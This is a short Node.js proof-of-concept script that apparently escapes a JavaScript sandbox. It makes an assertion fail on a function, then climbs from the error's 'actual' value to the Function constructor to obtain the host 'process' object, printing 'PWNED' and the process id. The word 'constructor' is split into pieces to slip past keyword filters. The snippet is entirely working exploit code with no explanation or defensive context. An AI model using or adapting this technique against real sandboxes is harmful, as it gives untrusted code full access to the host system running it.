const w = ['con', 'structor'].join('');
const assert = require('assert').strict;
const box = { f: (x) => x };
try { assert.equal(box.f, 1); } catch (e) { console.log('PWNED', e.actual[w]('return process')().pid); }
